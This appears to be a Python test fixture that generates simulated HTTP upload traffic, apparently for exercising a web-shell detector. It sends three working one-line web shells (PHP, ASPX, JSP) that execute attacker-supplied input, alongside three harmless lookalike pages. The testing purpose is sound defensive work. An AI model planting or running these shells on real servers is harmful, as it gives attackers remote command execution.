from traffic import *

PORTS = iter(range(40000, 41000))


def upload(name, data):
    """A form with a file."""
    c = Tcp("198.51.100.7", next(PORTS), "10.0.0.8", 80)
    c.open()
    body = f'--XX\r\nContent-Disposition: form-data; name="f"; filename="{name}"\r\n\r\n'.encode() + data + b"\r\n--XX--\r\n"
    head = "POST /upload HTTP/1.1\r\nHost: www.example\r\nContent-Type: multipart/form-data; boundary=XX\r\n"
    message = head.encode() + f"Content-Length: {len(body)}\r\n\r\n".encode() + body
    for at in range(0, len(message), 60):
        c.send(message[at : at + 60])
    c.reply(b"HTTP/1.1 204 No Content\r\n\r\n")
    c.close()


# Web shells in three languages, and pages that only look like them.
upload("a.php", b"GIF89a<?php @eval(base64_decode($_POST['c'])); ?>")
upload("b.aspx", b'<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>')
upload("c.jsp", b'<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>')
upload("d.php", b"<?php $name = htmlspecialchars($_POST['name']); $ok = evaluate($name); echo $ok; ?>")
upload("e.aspx", b'<%@ Page Language="C#"%><%= Server.HtmlEncode(Request["q"]) %>')
upload("f.jsp", b'<%= request.getParameter("cmd") %><% Runtime.getRuntime().gc(); %>')
write()
